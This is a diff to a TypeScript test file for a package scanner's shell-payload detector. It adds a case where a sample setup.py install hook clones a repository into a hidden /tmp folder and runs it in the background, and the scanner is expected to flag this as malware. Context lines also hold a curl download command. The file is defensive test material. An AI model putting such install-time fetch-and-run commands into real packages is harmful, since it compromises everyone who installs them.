@@ -368,3 +368,20 @@ test('a recipe of another folder is read where `make -C` starts it, and so is wh
   expect(await inspect('shell-payload', native('@curl -sL https://203.0.113.7/x.tgz -o x.tgz'))).toEqual([]);
   expect(await inspect('shell-payload', native('@echo building as `whoami`'))).toEqual([]);
 });
+
+test('what is cloned into a hidden folder and started from there is malware in a build, what is cloned beside it is held', async () => {
+  const build = (line: string): ReturnType<typeof sdist> =>
+    sdist({
+      'setup.py': python('import os', `os.system('${line}')`, 'from setuptools import setup', "setup(name='a')"),
+    });
+
+  expect(
+    await inspect(
+      'shell-payload',
+      build('git clone -q https://github.com/example/x /tmp/.x && cd /tmp/.x && python3 main.py &'),
+    ),
+  ).toMatchObject([{ class: 'malware', score: 9, context: 'install', line: 2 }]);
+  expect(
+    await inspect('shell-payload', build('git clone https://github.com/example/x vendor && bash vendor/prepare.sh')),
+  ).toMatchObject([{ class: 'suspicious', score: 5 }]);
+});
